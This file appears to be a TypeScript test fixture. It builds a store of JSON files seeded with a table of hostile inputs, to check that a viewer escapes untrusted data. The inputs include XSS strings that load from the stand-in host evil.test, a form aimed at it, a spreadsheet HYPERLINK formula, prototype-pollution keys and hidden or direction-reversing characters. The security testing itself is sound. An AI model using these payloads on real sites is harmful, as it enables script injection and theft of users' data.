import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { newFolder, sealed } from '../support/stored.js';

/** What a payload that runs does. */
const RUN = 'window.hacked=1';

/** Texts that run, load or hide something where a page takes them for anything but texts. */
export const PAYLOADS: Readonly<Record<string, string>> = {
  'a script': `<script>${RUN}</script><script src=https://evil.test/s.js></script>`,
  'the end of data': `</script><script>${RUN}</script><!--<script>`,
  'the end of texts': `</title></style></textarea></noscript></template><img src=x onerror=${RUN}>`,
  'a comment': `--><!--><img src=y onerror=${RUN}><![CDATA[ ]]>`,
  'an attribute': `" onmouseover="${RUN}" autofocus onfocus="${RUN}" style="background:url(https://evil.test/a)"`,
  'an attribute in single quotes': `' onpointerenter='${RUN}' autofocus onfocus='${RUN}' x='`,
  'an element that loads': `<img src=https://evil.test/i onerror=${RUN}><iframe srcdoc="<script>top.hacked=1</script>"></iframe>`,
  'an address that runs': `javascript:${RUN}//`,
  'an address with a page': `data:text/html,<script>opener.hacked=1</script>`,
  'an SVG': `<svg onload=${RUN}><use href="https://evil.test/u#u"/><animate onbegin=${RUN} attributeName=x dur=1s /></svg>`,
  'a style': `</style><style>@import "https://evil.test/c"; body { display: none }</style>`,
  'a value of a style': 'red;background:url(https://evil.test/b);position:fixed;inset:0',
  'a template': `{{constructor.constructor("${RUN}")()}}\${${RUN}}<%= ${RUN} %>#{${RUN}}`,
  'another base': '<base href=https://evil.test/><meta http-equiv=refresh content="0;url=https://evil.test/">',
  'a form': '<form action=https://evil.test/><input name=q autofocus><button>Go</button></form>',
  'an entity': `&lt;img src=z onerror=${RUN}&gt;&#x3c;script&#x3e;&quot;`,
  'an escape of addresses': '%3Cscript%3E%00%zz&a=00000000&p=Scan#overview?q=',
  'UTF-7': '+ADw-script+AD4-',
  'a formula': '=HYPERLINK("https://evil.test/")',
  'the prototype': '__proto__',
  'a member of the prototype': '__proto__.hacked',
  'the constructor': 'constructor',
  'a method': 'hasOwnProperty',
  'another direction': 'exe\u202egnp.\u2066\u200f',
  'hidden characters': '\u0000\u001b[31m\u200b\ufeff\u{e0041}\u0085',
  'ends of lines': 'a\u2028b\u2029c\r\nd\te',
  'half a character': 'a\ud83dz',
};

/** The name of the folder of a store. It stands in the head of each page, in titles, and in paths. */
const ROOT_NAME = `<img src=x onerror=${RUN}>"'&\u202e{{7*7}}`;

export const PROCEDURES = ['Hostile', 'Other', '__proto__'];

/** Returns the members of an artifact that has a payload wherever a file can have one. */
function hostileMembers(payload: string, index: number): object {
  const nested = own([
    [
      payload,
      own([
        [payload, payload],
        ['list', [payload, 1, [payload]]],
      ]),
    ],
  ]);
  const reference = { name: payload, procedure_name: payload, seal: payload };
  const curve = Array.from({ length: 40 }, (_, at) => Math.sin(at + index));
  return own([
    [payload, payload],
    [
      'input_parameters',
      own([
        ['n', index],
        ['text', payload],
        [payload, payload],
        ['nested', nested],
        ['parents', [reference, reference]],
        ['reference', reference],
      ]),
    ],
    ['list', [payload, payload]],
    ['long', `${payload}\n`.repeat(30)],
    ['objects', [nested, nested]],
    ['parents', [reference, reference]],
    ['procedure_name', payload],
    ['procedure_version', payload],
    ['reference', reference],
    ['seed', payload],
    ['timestamp', payload],
    ['time', Array.from(curve, (_, at) => at)],
    [`curve${payload}`, curve],
    [`peaks ${payload}`, [3, 20]],
    ['map', Array.from({ length: 12 }, (_, row) => curve.map((value) => value * row))],
  ]);
}

/** Returns an object whose members are its own, whatever their keys are. */
const own = (members: readonly (readonly [string, unknown])[]): object => Object.fromEntries(members);

/** Returns a file with the labels of arrays and their seal, as nobody but an attacker writes it. */
function sealedFile(payload: string, second: string): Buffer {
  const label = payload.slice(0, 60).trim();
  const escapedKey = label.replaceAll('~', '~0').replaceAll('/', '~1');
  const arrays = own([
    [`/c${escapedKey}`, { axes: [label], dtype: 'float64', shape: [30], unit: label, x: `d${label}` }],
    [`/d${escapedKey}`, { dtype: 'float64', shape: [30], unit: label }],
    ['/e', { axes: [label, `y${label}`], dtype: 'float64', shape: [2, 30], unit: label }],
  ]);
  const numbers = Array.from({ length: 30 }, (_, at) => at);
  const members = own([
    [`c${label}`, numbers],
    [`d${label}`, numbers],
    ['e', [numbers, numbers]],
    ['input_parameters', own([[payload, payload]])],
    ['procedure_name', 'Other'],
    ['procedure_version', payload],
    ['timestamp', `${second}.000Z`],
    ['$artifact', { arrays, format: 1, sha256: '0'.repeat(64) }],
  ]);
  return sealed(Buffer.from(`${JSON.stringify(members, null, 2)}\n`));
}

/** Makes a store whose files have all payloads in all places: files of other tools, sealed ones, and damaged ones. */
export async function hostileStore(): Promise<string> {
  const root = join(await newFolder(), ROOT_NAME);
  for (const procedure of PROCEDURES) await mkdir(join(root, procedure), { recursive: true });
  let index = 0;
  for (const payload of Object.values(PAYLOADS)) {
    const second = `2026-02-01T10:${String(index).padStart(2, '0')}:00`;
    const name = `${second.replaceAll(':', '-')}_abcdef.json`;
    const json = `${JSON.stringify(hostileMembers(payload, index), null, 2)}\n`;
    await writeFile(join(root, 'Hostile', name), json);
    await writeFile(join(root, 'Other', name), sealedFile(payload, second));
    // A text of the file, the key of a member that is cut off, and the message that quotes it.
    await writeFile(join(root, '__proto__', name), `${json.slice(0, -3)}, ${JSON.stringify(payload)}: ${payload}}`);
    index++;
  }
  return root;
}
